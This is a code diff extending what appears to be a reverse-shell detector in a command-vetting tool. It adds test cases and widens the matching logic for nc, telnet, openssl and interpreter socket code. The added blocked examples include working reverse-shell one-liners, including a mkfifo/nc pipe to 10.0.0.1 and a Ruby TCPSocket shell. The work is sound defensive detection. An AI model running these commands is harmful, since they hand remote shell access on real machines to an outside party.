@@ -228,6 +228,9 @@ def _as_written(command: Command, line: PackLine) -> str:
         "nc -le /bin/sh 4444",
         "socat TCP-LISTEN:4444 SYSTEM:'sh -i'",
         "ncat -l 4444 --sh-exec 'sh -i'",
+        "mkfifo f; cat f | sh -i 2>&1 | nc 10.0.0.1 4444 > f",
+        'ruby -rsocket -e \'c=TCPSocket.new("x",4444);exec "/bin/sh"\'',
+        "telnet x 4444 | bash | telnet x 4445",
     ],
     passes=[
         "nc -z localhost 80",
@@ -240,9 +243,14 @@ def _as_written(command: Command, line: PackLine) -> str:
 def reverse_shell(command: Command, line: PackLine) -> Objection:
     program = command.program
     if program in ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"):
-        return any(re.fullmatch(r"-[a-z]*[ec]", word) for word in command.args) or command.has(
-            "--exec", "--sh-exec", "--lua-exec"
+        return (
+            any(re.fullmatch(r"-[a-z]*[ec]", word) for word in command.args)
+            or command.has("--exec", "--sh-exec", "--lua-exec")
+            or any(one.program in SHELLS for one in line.pipeline_of(command))
         )
+    if program in ("telnet", "openssl"):
+        to_shell = any(one.program in SHELLS and reads_code(one) for one in line.pipeline_of(command))
+        return to_shell and (program == "telnet" or "s_client" in command.args)
     if program == "socat":
         given = [word.partition(":") for word in command.operands]
         runs = any(kind.upper() in ("EXEC", "SYSTEM", "SHELL") for kind, _, _ in given)
@@ -253,7 +261,11 @@ def reverse_shell(command: Command, line: PackLine) -> Objection:
             re.fullmatch(r"-[a-z]*i[a-z]*", word) for word in command.args
         )
     code = code_of(command) if is_interpreter(program) else ""
-    return bool(code) and "socket" in code and bool(re.search(r"dup2|pty\.spawn|/bin/(ba)?sh|exec\(", code))
+    return (
+        bool(code)
+        and re.search(r"(?i)socket|fsockopen", code) is not None
+        and bool(re.search(r"dup2|pty\.spawn|/bin/(ba)?sh|exec\b", code))
+    )
 
 
 @remote_code.rule(
